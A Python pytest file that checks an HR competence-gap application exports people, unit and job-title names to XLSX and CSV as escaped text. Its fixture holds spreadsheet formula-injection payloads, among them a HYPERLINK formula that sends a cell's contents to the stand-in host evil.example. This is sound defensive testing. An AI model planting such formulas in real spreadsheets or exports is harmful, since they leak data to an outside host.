"""Names from HR data reach the gap exports as text, never as formulas (issue 10 #3)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from kapabel.organisation import services as org_services
from tests.conftest import make_employee
from tests.gaps import writers

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik her")'


@pytest.fixture
def evil(world, gaps):
    """A person whose name, unit name and job title are formulas, with a gap on the first competence."""
    unit = org_services.orgunit_create(
        municipality=world.a, parent=world.team1, name="@SUM(A1)", kind="team", external_id="AX", actor="t"
    )
    role = org_services.jobrole_create(municipality=world.a, title="-2+3", code="9999", actor="t")
    person = make_employee(world.a, unit, "EX", HYPERLINK, role)
    writers.set_individual_target(employee=person, competence=gaps.competences[0], level=3)
    writers.record_rating(employee=person, competence=gaps.competences[0], source="agreed", level=1)
    return person


def test_cell_export_writes_hr_names_as_text(world, gaps, evil, login):
    client = login(world.user("hr"))
    url = f"/gaps/units/{world.team1.pk}/people/?competence={gaps.competences[0].pk}&export="
    response = client.get(url + "xlsx")
    assert response.status_code == 200 and "no-store" in response["Cache-Control"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    row = next(r for r in sheet.iter_rows(min_row=2) if HYPERLINK in str(r[0].value))
    name, unit, job_role, target, level, gap = row[:6]
    assert (name.value, unit.value, job_role.value) == ("'" + HYPERLINK, "'@SUM(A1)", "'-2+3")
    assert {name.data_type, unit.data_type, job_role.data_type} == {"s"}
    assert (target.value, level.value, gap.value) == (3, 1, 2) and gap.data_type == "n"

    response = client.get(url + "csv")
    assert response.status_code == 200 and "no-store" in response["Cache-Control"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    row = next(r for r in rows if HYPERLINK in r[0])
    assert row[:6] == ["'" + HYPERLINK, "'@SUM(A1)", "'-2+3", "3", "1", "2"]


def test_profile_export_titled_with_a_hostile_name_works(world, gaps, evil, login):
    """The person's name is the sheet title: Excel's forbidden characters must not break it."""
    client = login(world.user("manager"))
    response = client.get(f"/gaps/people/{evil.pk}/?export=xlsx")
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ['=HYPERLINK("http___evil.example']
    assert [c.value for c in workbook.active[2]][:3] == ["Kommunikation med borgere", "Vigtig", 3]
